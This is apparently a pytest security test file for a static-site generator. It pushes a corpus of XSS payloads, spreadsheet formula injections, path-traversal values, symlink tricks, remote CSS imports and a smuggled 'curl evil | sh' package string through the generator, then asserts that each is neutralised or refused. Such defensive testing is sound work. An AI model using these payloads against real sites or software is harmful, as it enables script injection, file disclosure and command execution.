"""Content is untrusted input (issue #11): one payload corpus, pushed through every text
field, every path field and init's options. Nothing may run in a real browser, and nothing
outside the project may be read into the site or written.

Every script payload sets ``window.__pwned``; the browser test reads it on every page.
"""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.browser import chromium, open_page, serve
from tests.conftest import make_project
from tests.htmlscan import Page

SCRIPT_PAYLOADS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "<svg onload=window.__pwned=1>",
    '"><img src=x onerror=window.__pwned=1>',
    "'-window.__pwned=1-'",
    "[click](javascript:window.__pwned=1)",
    "[click]( JaVaScRiPt:window.__pwned=1)",
    "[click](\njavascript:window.__pwned=1)",
    "[click][r]\n\n[r]:\n  javascript:window.__pwned=1",
    "[click](data:text/html,<script>window.__pwned=1</script>)",
    "[click](vbscript:window.__pwned=1)",
    "~~~\n<img src=x onerror=window.__pwned=1>\n~~~",
    "\\`<img src=x onerror=window.__pwned=1>\\`",
    "~~~\nx\n~~~\n{: onclick=window.__pwned=1 }",
    "para {: onmouseover=window.__pwned=1 }",
    "{{ 7*7 }} {% raw %} ${window.__pwned=1}",
    "<iframe src=javascript:window.__pwned=1></iframe>",
    '<a href="jav&#x09;ascript:window.__pwned=1">x</a>',
    '=HYPERLINK("http://evil.example";"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


def _payload_content(payloads: list[str], *, allow_html: bool) -> str:
    """A complete playbook whose every text field holds a payload, in every language."""
    cycle = itertools.cycle(payloads)

    def text() -> dict[str, str]:
        return {"sv": next(cycle) + " å", "nb": next(cycle) + " ø", "en": next(cycle)}

    data = {
        "site": {
            "title": text(),
            "description": text(),
            "client": next(cycle),
            "allow_html": allow_html,
            "languages": [
                {"code": "sv", "default": True, "name": next(cycle)},
                {"code": "nb", "name": next(cycle)},
                {"code": "en"},
            ],
            "branding": {"copyright": text()},
        },
        "sources": [
            {
                "id": "src",
                "title": next(cycle),
                "author": next(cycle),
                "publisher": next(cycle),
                "language": "sv",
                "note": text(),
            }
        ],
        "facts": [{"id": "fact", "text": text(), "source": "src", "caveat": text()}],
        "glossary": [{"id": "term", "term": text(), "definition": text(), "also": text()}],
        "checklists": [
            {
                "id": "shared",
                "name": text(),
                "summary": text(),
                "items": [{"id": "s1", "text": text()}],
                "stages": ["j/a"],
            }
        ],
        "journeys": [
            {
                "id": "j",
                "name": text(),
                "summary": text(),
                "about": text(),
                "cyclic": True,
                "checklist": [{"id": "before", "text": text()}],
                "stages": [
                    {
                        "id": "a",
                        "name": text(),
                        "summary": text(),
                        "description": text(),
                        "checklist": [{"id": "c1", "text": text()}, {"id": "c2", "text": text()}],
                        "prompts": [{"id": "p1", "text": text()}],
                        "facts": ["fact"],
                        "metrics": [{"id": "m1", "text": text()}],
                    },
                    {"id": "b", "name": text(), "summary": text(), "description": text()},
                ],
            },
            {
                "id": "k",
                "name": text(),
                "summary": text(),
                "stages": [
                    {
                        "id": "x",
                        "name": text(),
                        "summary": text(),
                        "description": text(),
                        "corresponds_to": ["a"],
                    }
                ],
            },
        ],
    }
    return json.dumps(data, ensure_ascii=False, indent=1)  # JSON is YAML


def _payload_status(payloads: list[str]) -> str:
    """A team status file (issue #15) whose owners, notes and answer hold the payloads,
    for every kind of item: a stage's, a journey's 'before you start' and a shared one."""
    keys = ["j/a/c1", "j/a/c2", "j/-/before", "shared/shared/s1"]
    states = ["done", "in-progress", "not-applicable", "not-started"]
    items = {
        key: {
            "status": state,
            "owner": " ".join(payloads[n].split())[:80],
            "note": "\n\n".join(payloads[n : n + 6])[:500],
            "due": "2020-01-01",  # overdue: the warning is shown too
        }
        for n, (key, state) in enumerate(zip(keys, states, strict=True))
    }
    answer = "\n\n".join(payloads) + "\n\n</p><script>window.__pwned=1</script>\n'\"`"
    status = {"version": 1, "items": items, "answers": {"j/a/p1": {"text": answer}}}
    return json.dumps(status, ensure_ascii=False, indent=1)  # JSON is YAML


@pytest.fixture(scope="module", params=[False, True], ids=["default", "allow_html"])
def hostile_site(request, tmp_path_factory) -> Path:
    project = tmp_path_factory.mktemp("hostile")
    content = make_project(project, _payload_content(SCRIPT_PAYLOADS, allow_html=request.param))
    (project / "progress.yaml").write_text(_payload_status(SCRIPT_PAYLOADS), encoding="utf-8")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    env.pop("PLAYBOOK_ALREADY_GENERATED", None)
    result = subprocess.run(
        [sys.executable, "-m", "generator", "build", "-c", str(content)],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return project / "site"


pytestmark = pytest.mark.slow  # builds real sites, drives a browser


def test_no_page_holds_live_script_from_content(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) > 20
    texts = [path.read_text(encoding="utf-8") for path in pages]
    assert any("playbook-team-state__note" in text for text in texts)  # the status file's too
    assert any("playbook-team-answer" in text for text in texts)
    for path in pages:
        page = Page(path)
        for tag, attrs in page.tags:
            for name, value in attrs.items():
                assert not (name.startswith("on") and "__pwned" in value), (path, tag, name)
                if name in ("href", "src", "action", "formaction"):
                    lowered = "".join(value.split()).lower()
                    assert not lowered.startswith(("javascript:", "vbscript:", "data:")), (
                        path,
                        value,
                    )
            assert tag not in ("iframe", "object", "embed"), (path, tag)
        html = path.read_text(encoding="utf-8")
        assert "<script>window.__pwned" not in html, path


def test_nothing_from_content_runs_in_the_browser(hostile_site):
    pages = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("index.html"))
    # open_page fails the test on any script error or request to another host as well.
    with serve(hostile_site) as base, chromium() as browser, open_page(browser) as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for relative in pages:
            page.goto(base + relative)
            # Hover over everything and click every link that leaves no page, in one go.
            page.evaluate("""() => {
                for (const el of document.querySelectorAll('body *')) {
                    el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
                }
                for (const a of document.querySelectorAll('a[href]')) {
                    const href = a.getAttribute('href').trim().toLowerCase();
                    // Only links with a scheme other than the web's: the ones that could run code.
                    if (/^[a-z][a-z0-9+.-]*:/.test(href) && !/^(https?|mailto):/.test(href)) a.click();
                }
            }""")
            assert page.evaluate("window.__pwned") is None, relative
        assert dialogs == []


def test_exported_spreadsheet_cells_never_start_a_formula(hostile_site):
    import csv
    import io

    downloads = sorted(hostile_site.glob("downloads/*.csv"))
    assert downloads
    for path in downloads:
        text = path.read_text(encoding="utf-8-sig")
        delimiter = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;").delimiter
        # Read as a spreadsheet does: a quoted cell may hold line breaks and doubled quotes
        # (Jira descriptions); only the delimiter is taken from the header line.
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)


# Path fields: nothing outside the project is read into the site.


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("logo", "../secret.png", "is not an allowed path"),
        ("logo", ".git/config", "is not an allowed path"),
        ("logo", ".git/logo.png", "is not an allowed path"),
        ("favicon", "link.png", "leads outside the project"),
        ("logo", "zero.png", "leads outside the project"),  # a symlink to /dev/zero
        ("logo", "fifo.png", "not a regular file"),
        ("extra_css", "remote.css", "uses @import (at 1:1)"),
        ("logo", "active.svg", "has an event handler ('onload' on <svg>)"),
        ("logo", "/etc/passwd.png", "is not an allowed path"),
    ],
)
def test_branding_paths_stay_inside_the_project(tmp_path, field, value, message):
    (tmp_path / "secret.png").write_bytes(b"SECRET")
    project = tmp_path / "project"
    project.mkdir()
    (project / ".git").mkdir()
    (project / ".git/logo.png").write_bytes(b"SECRET")
    (project / "link.png").symlink_to(tmp_path / "secret.png")
    (project / "zero.png").symlink_to("/dev/zero")
    os.mkfifo(project / "fifo.png")  # would block a plain read forever
    (project / "remote.css").write_text(
        "@import url(https://evil.example/x.css);", encoding="utf-8"
    )
    (project / "active.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', encoding="utf-8"
    )
    data = json.loads(_payload_content(["Text"], allow_html=False))
    data["site"]["branding"][field] = [value] if field == "extra_css" else value
    content = make_project(project, json.dumps(data))
    for command in ("validate", "generate"):
        result = subprocess.run(
            [sys.executable, "-m", "generator", command, "-c", str(content)],
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )
        assert result.returncode == 1, result.stdout
        assert f"site.branding.{field}" in result.stderr and message in result.stderr, result.stderr
        assert "Traceback" not in result.stderr and "SECRET" not in result.stderr
    assert not (project / "playbook/assets").exists()


# init's options are quoted for every file they land in.


def test_init_options_cannot_escape_their_context(tmp_path):
    from generator.errors import GeneratorError
    from generator.fork.init import init_project

    for name in ("Acme\nextends: /etc/passwd", "Acme\u2028x", "Acme\x00"):
        with pytest.raises(GeneratorError, match="one line"):
            init_project(tmp_path / "a", name=name, extends="default", languages=["sv"])
    assert not (tmp_path / "a").exists()
    with pytest.raises(GeneratorError, match="plain pip requirement"):
        init_project(
            tmp_path / "b",
            name="Acme",
            extends="default",
            languages=["sv"],
            package='x"; curl evil | sh; "',
        )
    base = tmp_path / "bases#1/base.yaml"
    base.parent.mkdir()
    base.write_text("site: {title: Bas}\n", encoding="utf-8")
    from generator.fork.init import FILES

    result = init_project(
        tmp_path / "c",
        name='Acme "<b>" #1 $(x)',
        extends=str(base),
        languages=["sv"],
        package="journey-playbook==0.1.0",
    )
    import yaml

    content = yaml.safe_load((tmp_path / "c/content.yaml").read_text(encoding="utf-8"))
    assert content["extends"] == "../bases#1/base.yaml"
    assert content["site"]["client"] == 'Acme "<b>" #1 $(x)'
    assert "<b>" not in (tmp_path / "c/README.md").read_text(encoding="utf-8")
    assert len(result.written) == len(FILES) == 8  # the three workflows among them


def test_init_checks_every_file_before_writing_any(tmp_path):
    from generator.errors import GeneratorError
    from generator.fork.init import init_project

    workflow = tmp_path / ".github/workflows/pages.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("# mine\n", encoding="utf-8")
    with pytest.raises(GeneratorError, match="already holds a project"):
        init_project(tmp_path, name="Acme", extends="default", languages=["sv"])
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["pages.yml"]
    assert workflow.read_text(encoding="utf-8") == "# mine\n"


# Findings of a review as an attacker (issue #11): each stays fixed.


def _project_with(tmp_path, mutate) -> Path:
    project = tmp_path / "project"
    project.mkdir(exist_ok=True)
    data = json.loads(_payload_content(["Text"], allow_html=False))
    mutate(data, project)
    return make_project(project, json.dumps(data))


def _generate(content: Path, command: str = "generate") -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "generator", command, "-c", str(content)],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def test_a_branding_file_name_cannot_carry_markup(tmp_path):
    name = 'brand/x" onerror="window.__pwned=1" a=".png'

    def mutate(data, project):
        (project / "brand").mkdir()
        (project / name).write_bytes(b"\x89PNG\r\n\x1a\n")
        data["site"]["branding"]["logo"] = name

    result = _generate(_project_with(tmp_path, mutate))
    assert result.returncode == 1 and "site.branding.logo" in result.stderr
    assert "is not an allowed path" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "svg, link",
    [
        (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
            "<h:script>window.__pwned=1</h:script></svg>",
            False,
        ),
        ('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:x"><rect/></a></svg>', False),
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=1</script></svg>', True),
    ],
)
def test_svg_scripts_are_refused_however_they_are_written(tmp_path, svg, link):
    def mutate(data, project):
        (project / "brand").mkdir()
        if link:  # a .png holding an SVG, published as .svg through a link inside the project
            (project / "brand/evil.png").write_text(svg, encoding="utf-8")
            (project / "brand/logo.svg").symlink_to("evil.png")
        else:
            (project / "brand/logo.svg").write_text(svg, encoding="utf-8")
        data["site"]["branding"]["logo"] = "brand/logo.svg"

    result = _generate(_project_with(tmp_path, mutate), "validate")
    assert result.returncode == 1 and "site.branding.logo" in result.stderr, result.stderr


@pytest.mark.parametrize(
    "css",
    [
        'a { background: image-set("https://t.invalid/a.png" 1x); }',
        "a { background: u\\72l(https://t.invalid/b.png); }",
        "a { background: url(/\\/t.invalid/c.png); }",
        "a { background: url('\\68ttps://t.invalid/d.png'); }",
        "a { background: url(//t.invalid/e.png); }",
    ],
)
def test_style_sheets_cannot_fetch_from_other_hosts(tmp_path, css):
    def mutate(data, project):
        (project / "brand.css").write_text(css, encoding="utf-8")
        data["site"]["branding"]["extra_css"] = ["brand.css"]

    result = _generate(_project_with(tmp_path, mutate), "validate")
    assert result.returncode == 1 and "fetches from another address" in result.stderr


def test_a_long_client_name_cannot_multiply_past_the_limits(tmp_path):
    def mutate(data, project):
        data["site"]["client"] = "[" * 100
        data["journeys"][0]["stages"][0]["description"] = {"sv": "{client}" * 4}
        data["journeys"][0]["stages"][0]["summary"] = {"sv": "{client} " * 2000}

    result = _generate(_project_with(tmp_path, mutate), "validate")
    assert result.returncode == 1
    assert "the Markdown holds 400 '[' characters" in result.stderr
    assert "with {client} filled in, the text is" in result.stderr


def test_a_line_of_list_markers_is_refused_not_a_recursion_error(tmp_path):
    def mutate(data, project):
        data["journeys"][0]["stages"][0]["description"] = {"sv": "- " * 1000 + "a"}

    result = _generate(_project_with(tmp_path, mutate), "validate")
    assert result.returncode == 1 and "opens 1000 nested lists" in result.stderr
    assert "Traceback" not in result.stderr


def test_symlinks_in_the_docs_folder_are_refused(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET", encoding="utf-8")

    def mutate(data, project):
        (project / "playbook").mkdir()
        (project / "playbook/robots.txt").symlink_to(secret)

    result = _generate(_project_with(tmp_path, mutate))
    assert result.returncode == 1 and "playbook/robots.txt" in result.stderr
    assert "TOP SECRET" not in result.stderr and "Traceback" not in result.stderr


def test_a_committed_site_symlink_is_not_emptied(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "important.txt").write_text("keep", encoding="utf-8")

    def mutate(data, project):
        (project / "site").symlink_to(victim, target_is_directory=True)

    result = _generate(_project_with(tmp_path, mutate), "build")
    assert result.returncode == 1 and "is a symlink" in result.stderr
    assert (victim / "important.txt").read_text(encoding="utf-8") == "keep"


@pytest.mark.parametrize("manifest", ['{"files": []}', '{"files": {"a\\u0000b": "x"}}'])
def test_a_crafted_manifest_is_one_clear_error(tmp_path, manifest):
    content = _project_with(tmp_path, lambda data, project: None)
    (content.parent / ".playbook").mkdir()
    (content.parent / ".playbook/manifest.json").write_text(manifest, encoding="utf-8")
    result = _generate(content)
    assert result.returncode == 1 and "manifest is damaged" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_yaml_line_break_in_the_client_name_is_refused(tmp_path):
    from generator.errors import GeneratorError
    from generator.fork.init import init_project

    with pytest.raises(GeneratorError, match="one line"):
        init_project(
            tmp_path / "a",
            name="Acme\u0085checklists: []",
            extends="default",
            languages=["sv"],
            package="journey-playbook==0.1.0",
        )


def test_extends_does_not_tell_whether_a_file_outside_exists(tmp_path):
    from generator.content.loader import load_content
    from generator.errors import ContentError

    messages = []
    for number, base in enumerate(("../real.yaml", "../missing.yaml")):
        project = tmp_path / str(number) / "project"
        project.mkdir(parents=True)
        (project.parent / "real.yaml").write_text("site: {}\n", encoding="utf-8")
        (project / "content.yaml").write_text(f"extends: {base}\n", encoding="utf-8")
        with pytest.raises(ContentError) as caught:
            load_content(project / "content.yaml", display_name="content.yaml")
        messages.append(str(caught.value).replace(base, "BASE"))
    assert messages[0] == messages[1]
